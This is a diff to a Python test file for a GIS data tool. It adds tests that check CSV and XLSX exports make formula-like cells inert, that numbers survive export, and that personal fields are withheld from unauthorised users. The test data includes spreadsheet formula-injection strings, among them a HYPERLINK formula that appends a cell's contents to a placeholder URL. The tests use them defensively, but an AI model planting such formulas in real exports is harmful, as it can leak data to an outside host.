@@ -5,6 +5,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -18,21 +19,24 @@ from pathlib import Path
 from urllib.parse import unquote
 
 import geopandas as gpd
+import openpyxl
 import pandas as pd
 import pytest
 import shapely
 import uvicorn
-from factories import LAT0, LON0
+from factories import LAT0, LON0, buildings_frame, square, write_gbk_shapefile
 from servers import ADMIN, TOKENS, add_test_accounts, admin_client, headers
 from sqlalchemy import select
 
 from gridmap.api.app import create_app
 from gridmap.cli import DEMO_DATA, load_demo
+from gridmap.config import Settings
 from gridmap.exporting import export_layer
-from gridmap.io.write import write_frame
+from gridmap.io.write import MEDIA_TYPES, write_csv_table, write_frame
 from gridmap.layers import LAYERS
 from gridmap.loading import load_file
 from gridmap.runs import run_analyze
+from gridmap.store.db import make_engine
 from gridmap.store.features import layer_counts, read_features
 from gridmap.store.models import ChangeLog
 from gridmap.store.results import latest_run, read_gaps, read_proposals
@@ -356,3 +360,116 @@ def test_geopackage_is_written_as_version_1_2_for_older_gis(tmp_path):
     with sqlite3.connect(out) as db:
         assert db.execute("PRAGMA application_id").fetchone()[0] == 0x47504B47  # 'GPKG'
         assert db.execute("PRAGMA user_version").fetchone()[0] == 10200
+
+
+# --- spreadsheets: XLSX, and cells that a spreadsheet would run as formulas ------------------
+
+HYPERLINK = '=HYPERLINK("http://x"&A2,"点击")'
+FORMULA_NAMES = (HYPERLINK, "+86 100", "-一号院", "@SUM(A1)")
+
+
+def compounds_named_like_formulas(path: Path) -> Path:
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(["小区编号", "小区名称", "wkt"])
+    for i, name in enumerate(FORMULA_NAMES):
+        writer.writerow([f"C{i}", name, square(i, 0).wkt])
+    path.write_text(out.getvalue(), encoding="utf-8-sig")
+    return path
+
+
+def xlsx_rows(content: bytes) -> list[list]:
+    """The first sheet's rows as openpyxl reads them: (value, data type) of every cell."""
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+    # _x000D_: the OOXML escape of a carriage return, which Excel reads back and openpyxl keeps
+    unescape = lambda v: v.replace("_x000D_", "\r") if isinstance(v, str) else v  # noqa: E731
+    return [[(unescape(c.value), c.data_type) for c in row] for row in sheet.iter_rows()]
+
+
+def test_formula_starts_come_out_inert_in_csv_and_xlsx(engine, db_settings, tmp_path):
+    load_file(engine, "compound", compounds_named_like_formulas(tmp_path / "小区.csv"))
+    inert = {f"C{i}": "'" + name for i, name in enumerate(FORMULA_NAMES)}
+    for fmt in ("csv", "xlsx"):
+        out = tmp_path / f"out.{fmt}"
+        result = gridmap("export", "compound", "-o", out, url=db_settings.database_url)
+        assert result.returncode == 0, result.stderr
+        if fmt == "csv":
+            rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+            assert {r["code"]: r["name"] for r in rows} == inert
+            continue
+        header, *rows = xlsx_rows(out.read_bytes())
+        columns = [value for value, _ in header]
+        names = {row[columns.index("code")][0]: row[columns.index("name")] for row in rows}
+        assert {code: value for code, (value, _) in names.items()} == inert
+        assert {kind for _, kind in names.values()} == {"s"}  # text cells, no formula among them
+
+
+def test_negative_numbers_stay_numbers_and_text_that_looks_like_a_formula_does_not(tmp_path):
+    frame = pd.DataFrame({
+        "code": ["-3", "\t=1+1", "\r=1+1", "甲"],
+        "delta": [-3.5, -1.0, 0.0, 2.0],
+        "count": pd.array([-1, 2, None, 4], dtype="Int64"),
+    })  # fmt: skip
+    text = write_frame(frame, tmp_path / "t.csv", None, "t").read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert rows == [
+        ["code", "delta", "count"],
+        ["'-3", "-3.5", "-1"],
+        ["'\t=1+1", "-1.0", "2"],
+        ["'\r=1+1", "0.0", ""],
+        ["甲", "2.0", "4"],
+    ]
+    book = write_frame(frame, tmp_path / "t.xlsx", None, "t").read_bytes()
+    assert xlsx_rows(book)[1:] == [
+        [("'-3", "s"), (-3.5, "n"), (-1, "n")],
+        [("'\t=1+1", "s"), (-1, "n"), (2, "n")],
+        [("'\r=1+1", "s"), (0, "n"), (None, "n")],
+        [("甲", "s"), (2, "n"), (4, "n")],
+    ]
+
+
+def test_integration_tables_are_spreadsheet_safe_too(tmp_path):
+    crosswalk = pd.DataFrame({"unified": ["=1+1"], "party": ["@A1"], "area_m2": [-0.5]})
+    text = write_csv_table(crosswalk, tmp_path / "crosswalk.csv").read_bytes().decode("utf-8-sig")
+    assert text == "unified,party,area_m2\r\n'=1+1,'@A1,-0.5\r\n"
+
+
+def test_xlsx_export_holds_the_csv_table_and_loads_back(engine, db_settings, tmp_path):
+    load_file(engine, "building", write_gbk_shapefile(buildings_frame(), tmp_path / "b.shp"))
+    frame = stored(engine, "building")
+    out, n = export_layer(engine, "building", tmp_path / "楼栋.xlsx")
+    assert n == 4
+    header, *rows = xlsx_rows(out.read_bytes())
+    assert [value for value, _ in header] == expected_fields(frame, "csv")  # same as CSV
+    households = [row[[v for v, _ in header].index("households")] for row in rows]
+    assert households == [(10, "n"), (20, "n"), (30, "n"), (40, "n")]
+    again = tmp_path / "again.db"
+    env = f"sqlite:///{again}"
+    assert gridmap("init", url=env).returncode == 0
+    loaded = gridmap("load", "building", out, url=env)
+    assert loaded.returncode == 0, loaded.stderr
+    reloaded = stored(make_engine(Settings(database_url=env)), "building")
+    assert reloaded["code"].tolist() == frame["code"].tolist()
+    assert reloaded["households"].tolist() == [10, 20, 30, 40]
+    assert shapely.equals_exact(
+        reloaded.geometry.values, frame.geometry.values, tolerance=1e-7
+    ).all()
+
+
+def test_api_xlsx_export_follows_the_personal_data_rules(engine, api, tmp_path):
+    load_file(engine, "member", members_with_an_unmapped_column(tmp_path / "党员.csv"))
+    base = str(api.base_url).rstrip("/")
+    plain = api.get("/api/export/member", params={"format": "xlsx"})
+    assert plain.status_code == 200
+    assert plain.headers["content-type"] == MEDIA_TYPES["xlsx"]
+    assert unquote(plain.headers["content-disposition"]).endswith("党员.xlsx")
+    header, *rows = xlsx_rows(plain.content)
+    assert len(rows) == 1 and "code" in [v for v, _ in header]
+    assert not {v for v, _ in header} & {*PERSONAL, "properties"}
+    cells = [str(v) for row in rows for v, _ in row]
+    assert not [v for v in PERSONAL_VALUES if any(v in c for c in cells)]
+    viewer = api.get("/api/export/member", params={"format": "xlsx", "include_personal": "true"}, headers=headers(base, "查看者"))  # fmt: skip
+    assert viewer.status_code == 403
+    full = api.get("/api/export/member", params={"format": "xlsx", "include_personal": "true"})
+    cells = [str(v) for row in xlsx_rows(full.content)[1:] for v, _ in row]
+    assert all(any(v in c for c in cells) for v in PERSONAL_VALUES)
